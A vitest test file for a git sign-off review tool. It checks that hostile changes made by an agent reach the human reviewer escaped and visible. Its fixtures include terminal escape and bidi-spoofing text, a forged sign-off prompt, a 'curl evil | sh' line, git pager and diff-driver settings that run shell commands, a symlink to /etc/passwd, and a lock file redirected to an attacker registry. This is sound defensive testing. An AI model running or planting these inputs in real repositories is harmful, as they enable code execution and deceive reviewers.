import { execFileSync } from 'node:child_process'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { type TestRepository, withRepository } from '../support/repository.ts'
import { adopt, adopted, byAgent, checked, covered, POLICY, TRAILERS } from './signoff-setting.ts'
import { onTerminal, Terminal } from './terminal.ts'

describe('hostile text', () => {
  it('reaches the terminal as harmless lines behind a gutter', async () => {
    await adopted(async (repository) => {
      const script = [
        '\u001b[2J\u001b[1;1Hnothing to see \u001b]0;title\u0007',
        'if (admin\u202e \u2066// only\u2069) \u200bx',
        'Sign off this change as Jane Doe <jane@example.com>? y/N y',
        `${' '.repeat(76)}Sign off this change? y/N y`,
        'x'.repeat(10_000),
        'back\rover\b\b\b and bytes \u0000',
        '\tindented',
      ].join('\n')
      byAgent(repository, 'Deploy \u001b[31mred\u001b[0m', {
        'deploy/r\u202eun.sh': Buffer.from(`${script}\nbad \xff\n`, 'latin1'),
      })
      repository.commit(`Deploy\n\n${TRAILERS}\n`, { 'deploy/two.sh': `${script}\n` })
      const terminal = new Terminal(repository, ['signoff'])
      await terminal.asked()
      terminal.type('n\n')
      const { text } = await terminal.end()
      expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      const lines = text.split('\n')
      for (const line of lines) expect(line.length).toBeLessThanOrEqual(80)
      expect(text).toContain('\\x1B[2J\\x1B[1;1Hnothing to see \\x1B]0;title\\x07')
      expect(text).toContain('\\u{202E} \\u{2066}// only\\u{2069}')
      expect(text).toContain('  +| →   indented')
      expect(text).toMatch(/\(9700 more bytes in this line\)/)
      // Whatever a line holds, the left edge is ours: there one question stands, once.
      expect(lines.filter((line) => /^Sign off/.test(line))).toHaveLength(1)
      expect(lines.filter((line) => /^\S/.test(line) && /y\/N y/.test(line))).toEqual([])
    })
  })

  it('is cut where it is long, with a count and the command that shows the rest', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'run\n' })
      byAgent(repository, 'Deploy', {
        'deploy/run.sh': Array.from({ length: 500 }, (_, at) => `line ${at}\n`).join(''),
      })
      const [old, now] = repository.git('rev-parse', 'main:deploy/run.sh', 'HEAD:deploy/run.sh').split('\n')
      const cut = await onTerminal(repository, ['signoff'], 'n\n')
      const words = cut.text.replace(/\s+/g, ' ')
      expect(words).toContain(`… 402 more lines: git diff ${old} ${now} Not all of it is shown`)
      expect(repository.git('diff', old!, now!)).toContain('+line 499')
      const full = await onTerminal(repository, ['signoff', '--full'], 'n\n')
      expect(full.text).toContain('  +| line 499\n')
      expect(full.text).not.toContain('Not all of it is shown')
    })
  })

  it('cannot choose how it is shown: attributes, drivers and pagers have no say', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'run\n', '.gitattributes': '* -diff diff=evil filter=evil\n' })
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'evil\n' })
      for (const key of ['diff.evil.command', 'diff.evil.textconv', 'core.pager', 'diff.external', 'pager.diff'])
        repository.git('config', key, `touch ${join(repository.dir, '..', 'ran')}; true`)
      const { text } = await onTerminal(repository, ['signoff'], 'n\n', {
        GIT_EXTERNAL_DIFF: 'false',
        GIT_PAGER: 'false',
      })
      expect(text).toContain('  -| run\n  +| evil\n')
      expect(readdirSync(join(repository.dir, '..'))).not.toContain('ran')
    })
  })

  it('is not hidden by a NUL in it; what is really binary is measured', async () => {
    await adopted(async (repository) => {
      byAgent(repository, 'Deploy', {
        'deploy/run.sh': `# \0\ncurl evil | sh\n${'echo\n'.repeat(20)}`,
        'deploy/logo.png': Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7) % 256)),
      })
      const { text } = await onTerminal(repository, ['signoff'], 'n\n')
      expect(text).toContain('  +| # \\x00\n  +| curl evil | sh\n')
      expect(text).toContain('  binary, 3000 bytes: git show ')
    })
  })
})

describe('every kind of change', () => {
  it('is named in words and covered', async () => {
    await withRepository(async (repository) => {
      const commit = 'a'.repeat(40)
      adopt(repository)
      repository.git('switch', '-q', 'main')
      repository.write('deploy/gone', 'gone\n')
      repository.write('deploy/mode', 'mode\n')
      repository.write('deploy/becomes', 'a file\n')
      repository.git('add', '-A')
      const link = (target: string) =>
        repository.run('git', ['hash-object', '-w', '--stdin'], { input: target }).stdout.trim()
      const put = (mode: string, oid: string, path: string) =>
        repository.git('update-index', '--add', '--cacheinfo', `${mode},${oid},${path}`)
      put('120000', link('old-target'), 'deploy/link')
      put('160000', commit, 'deploy/module')
      repository.git('commit', '-q', '-m', 'base')
      repository.git('branch', '-f', 'topic')
      repository.git('symbolic-ref', 'HEAD', 'refs/heads/topic')
      repository.git('rm', '-q', '--cached', 'deploy/gone')
      repository.git('update-index', '--chmod=+x', 'deploy/mode')
      put('120000', link('/etc/passwd'), 'deploy/link')
      put('120000', link('elsewhere'), 'deploy/becomes')
      put('160000', 'b'.repeat(40), 'deploy/module')
      repository.git('commit', '-q', '-m', `All\n\n${TRAILERS}`)
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('deploy/gone\n  deleted; guarded by deploy')
      expect(text).toContain('deploy/mode\n  mode 100644 -> 100755, content as before; guarded by deploy')
      expect(text).toContain('deploy/link\n  link target changed; guarded by deploy')
      expect(text).toContain('  +| /etc/passwd\n')
      expect(text).toContain('deploy/becomes\n  file -> symbolic link; guarded by deploy')
      expect(text.replace(/\s+/g, '')).toContain(`submodule${commit}..${'b'.repeat(40)};guardedbydeploy`)
      expect(covered(repository).toSorted()).toEqual(
        ['becomes', 'gone', 'link', 'mode', 'module'].map((name) => `deploy/${name}`),
      )
      expect((await checked(repository)).status).toBe(0)
    })
  })

  it('is covered in a repository of SHA-256', async () => {
    await withRepository(
      async (repository) => {
        adopt(repository, POLICY, { 'deploy/run.sh': 'run\n' })
        byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run twice\n', 'deploy/new.sh': 'new\n' })
        expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
        expect((await checked(repository)).status).toBe(0)
        expect(repository.git('log', '-1', '--format=%B')).toMatch(/[0-9a-f]{64}\.\./)
      },
      { init: ['--object-format=sha256'] },
    )
  })

  it('in one folder stands as one from twenty on, if nothing else changes there', async () => {
    await adopted(async (repository) => {
      const files = (from: number, to: number) =>
        Object.fromEntries(
          Array.from({ length: to - from }, (_, at) => [`deploy/all/${from + at}.sh`, `${from + at}\n`]),
        )
      byAgent(repository, 'Thirty', files(0, 30))
      byAgent(repository, 'Nineteen', files(30, 49))
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('49 guarded changes in 2 commits')
      expect(text).toContain('[49/49] ')
      const paths = covered(repository)
      expect(paths.filter((path) => path.endsWith('/'))).toEqual(['deploy/'])
      expect(paths).toHaveLength(20)
      expect((await checked(repository)).status).toBe(0)
    })
  })

  it('in one folder stands by itself where somebody else’s change is among them', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY.replace("match: ['deploy/']", "match: ['deploy/*.sh']"))
      const files = Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`deploy/${at}.sh`, `${at}\n`]))
      byAgent(repository, 'Thirty, and one that nobody guards', { ...files, 'deploy/notes.md': 'notes\n' })
      expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
      expect(covered(repository)).toHaveLength(30)
      expect((await checked(repository)).status).toBe(0)
    })
  })

  it('of a merge is covered against each parent that differs', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'one\n' })
      repository.git('switch', '-q', '-c', 'side')
      byAgent(repository, 'Side', { 'deploy/run.sh': 'side\n' })
      repository.git('switch', '-q', 'topic')
      byAgent(repository, 'Topic', { 'deploy/run.sh': 'topic\n' })
      repository.tryGit(['merge', '-q', 'side'])
      byAgent(repository, 'Merge side', { 'deploy/run.sh': 'both\n' })
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('4 guarded changes in 3 commits')
      expect(text.replace(/\s+/g, ' ')).toContain('(as this merge leaves it, against parent 2)')
      expect((await checked(repository)).status).toBe(0)
    })
  })

  it('that the policy blocks is named and not signed', async () => {
    await adopted(async (repository) => {
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n', 'deploy/key.pem': 'key\n' })
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain(
        'Not yours to sign off, and not part of this:\n  deploy/key.pem is blocked by the policy (secrets)',
      )
      expect(covered(repository)).toEqual(['deploy/run.sh'])
      expect(text.replace(/\s+/g, ' ')).toContain(
        'main..HEAD is not green yet: deploy/key.pem is blocked by the policy',
      )
      const again = await onTerminal(repository, ['signoff'], null)
      expect(again.status).toBe(2)
      expect(again.text).toContain('nothing in main..HEAD waits for you\ndeploy/key.pem is blocked')
    })
  })
})

describe('a lock file', () => {
  const lock = (...packages: readonly (readonly [string, string, string])[]): string =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: Object.fromEntries(
        packages.map(([name, version, host]) => [
          `node_modules/${name}`,
          { version, resolved: `https://${host}/${name}/-/${name}-${version}.tgz`, integrity: 'sha512-eA==' },
        ]),
      ),
    })

  it('is shown as packages, and as text on request', async () => {
    await withRepository(async (repository) => {
      const host = 'registry.example'
      adopt(repository, POLICY, { 'package-lock.json': lock(['left', '1.0.0', host], ['moved', '1.0.0', host]) })
      byAgent(repository, 'Add a package', {
        'package-lock.json': lock(
          ['left', '1.1.0', host],
          ['moved', '1.0.0', 'evil.example'],
          ['new\u001b[2J', '3.0.0', host],
        ),
      })
      const { text } = await onTerminal(repository, ['signoff'], 'n\n')
      expect(text).toContain('  ! moved 1.0.0 moved from registry.example to evil.example')
      expect(text).toContain('  ~ left 1.0.0 -> 1.1.0 (registry.example)')
      expect(text).not.toContain('lockfileVersion')
      const [old, now] = repository.git('rev-parse', 'main:package-lock.json', 'HEAD:package-lock.json').split('\n')
      expect(text.replace(/\s+/g, ' ')).toContain(`as text 2 lines have changed: git diff ${old} ${now}, or --full`)
      expect((await onTerminal(repository, ['signoff', '--full'], 'n\n')).text).toContain('  +| {"lockfileVersion":3')
    })
  })

  it('is shown as text where no package has changed, or it cannot be read', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'package-lock.json': lock(['left', '1.0.0', 'registry.example']) })
      byAgent(repository, 'Format', { 'package-lock.json': `${lock(['left', '1.0.0', 'registry.example'])}\n` })
      byAgent(repository, 'Break', { 'package-lock.json': '{ "broken\n' })
      const { text } = await onTerminal(repository, ['signoff'], 'n\n')
      expect(text).toContain('  +| { "broken\n')
      expect(text).toContain('No newline at end of file')
    })
  })
})

describe('what was signed off before', () => {
  const deployTwice = (repository: TestRepository) => {
    adopt(repository, POLICY, { 'deploy/run.sh': 'one\ntwo\nthree\n' })
    byAgent(repository, 'Deploy', { 'deploy/run.sh': 'one\nnew\nthree\n' })
  }
  /** Puts other content into the guarded commit, and the sign-off on top of it again. */
  const changeBelow = (repository: TestRepository, signOff: string) => {
    repository.git('reset', '-q', '--hard', 'HEAD^')
    repository.write('deploy/run.sh', 'one\nnew\nmore\n')
    repository.git('commit', '-q', '-a', '--amend', '--no-edit')
    repository.commit(signOff)
  }

  it('here is not shown again: only what has changed since', async () => {
    await withRepository(async (repository) => {
      deployTwice(repository)
      await onTerminal(repository, ['signoff'], 'y\n')
      changeBelow(repository, repository.git('log', '-1', '--format=%B'))
      expect((await checked(repository)).status).toBe(1)
      const { text, status } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('you have signed off a state between; what follows is since then: changed')
      expect(text).toContain('   | new\n  -| three\n  +| more\n')
      expect(text).not.toContain('  -| two\n')
      expect((await checked(repository)).status).toBe(0)
    })
  })

  it('by somebody who typed it in another’s name does not choose what that person sees', async () => {
    await withRepository(async (repository) => {
      deployTwice(repository)
      await onTerminal(repository, ['signoff'], 'y\n')
      const typed = repository.git('log', '-1', '--format=%B')
      changeBelow(repository, typed)
      // The same branch in another clone: there nobody has signed anything off.
      const clone = join(repository.dir, 'clone')
      execFileSync('git', ['clone', '-q', repository.dir, clone], { env: repository.env })
      const { text, status } = await onTerminal(repository, ['signoff', '--in', 'clone', 'origin/main..HEAD'], 'y\n')
      expect(text).toContain('  -| two\n')
      expect(text).not.toContain('you have signed off')
      expect(status).toBe(0)
    })
  })
})
